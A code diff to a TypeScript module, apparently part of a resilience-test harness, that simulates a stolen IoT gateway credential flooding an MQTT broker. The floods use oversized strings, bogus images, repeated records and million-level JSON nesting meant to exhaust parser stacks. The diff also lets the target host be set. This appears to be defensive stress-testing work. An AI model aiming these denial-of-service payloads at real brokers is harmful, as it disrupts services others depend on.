@@ -1,8 +1,7 @@
 /** What a thief sends with the credential of one gateway, as fast as its broker reads. */
-import { randomBytes, randomUUID } from 'node:crypto';
 import { connect } from 'node:net';
-import { uuidv7 } from 'uuidv7';
 import { type AttackCounts, type AttackOrder, createCounts, pause } from './attack.js';
+import { draws } from './draws.js';
 import { encodeConnect, encodePublish } from './mqtt-packets.js';
 
 /** The stolen gateway, with the things of its lot that records may name. */
@@ -30,7 +29,7 @@ export async function floodAsGateway(
   const { counts, add } = createCounts();
   const next = FLOODS[flood](gateway);
   while (!order.signal.aborted) {
-    const socket = connect({ port, host: '127.0.0.1', localAddress: order.from });
+    const socket = connect({ port, host: order.to ?? '127.0.0.1', localAddress: order.from });
     socket.resume();
     socket.once('error', () => {});
     const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
@@ -57,7 +56,7 @@ export async function floodAsGateway(
 
 const LONG = 'x'.repeat(10_000_000);
 const PICTURE_BYTES = 300_000;
-const NESTED = 500_000;
+const NESTED = 1_000_000;
 const REPORTED_TIMES = 30_000;
 
 const FLOODS = {
@@ -65,8 +64,8 @@ const FLOODS = {
   'long strings': (gateway: StolenGateway) => recordsOf(0, (batch) => batch([readOf(gateway, { make: LONG })])),
   /** Pictures whose seq lies far ahead: none of them can be accepted. */
   'far pictures': () => {
-    const data = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(PICTURE_BYTES)]).toString('base64');
-    const picture = () => ({ kind: 'image', owner_uid: uuidv7(), role: 'full', mime: 'image/jpeg', data });
+    const data = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), draws.bytes(PICTURE_BYTES)]).toString('base64');
+    const picture = () => ({ kind: 'image', owner_uid: draws.uid(), role: 'full', mime: 'image/jpeg', data });
     return recordsOf(2, (batch) => batch([picture()]), 1_000_000_000);
   },
   /** One product, reported again and again in one message. */
@@ -91,7 +90,7 @@ const FLOODS = {
   },
   /** A payload nested so deep that whoever walks it by recursion has no stack left. */
   'deep nesting': () => {
-    const epoch = randomBytes(16).toString('hex');
+    const epoch = draws.hex(32);
     const nested = `${'['.repeat(NESTED)}${']'.repeat(NESTED)}`;
     return (): FloodMessage => {
       const record = JSON.stringify(recordOf(1, 'nested')).replace('"nested"', () => nested);
@@ -109,21 +108,21 @@ function recordsOf(
   build: (batch: (payloads: unknown[]) => string) => string,
   firstSeq = 1,
 ): () => FloodMessage {
-  const epoch = randomBytes(16).toString('hex');
+  const epoch = draws.hex(32);
   let seq = firstSeq;
   const batch = (payloads: unknown[]) =>
     JSON.stringify({ epoch, lane, records: payloads.map((payload) => recordOf(seq++, payload)) });
   return () => ({ channel: 'records', text: build(batch) });
 }
 
-const boot_id = uuidv7();
+const boot_id = draws.uid();
 
 function recordOf(seq: number, payload: unknown) {
-  return { seq, uid: uuidv7(), boot_id, mono_ms: seq, wall_ms: Date.now(), clock_ok: true, payload };
+  return { seq, uid: draws.uid(), boot_id, mono_ms: seq, wall_ms: Date.now(), clock_ok: true, payload };
 }
 
 function readOf({ lpr_camera_id, zone_id }: StolenGateway, change: Record<string, unknown>) {
-  const plate = `AT${randomUUID().slice(0, 6).toUpperCase()}`;
+  const plate = `AT${draws.hex(6).toUpperCase()}`;
   return {
     kind: 'plate_read',
     reading: {
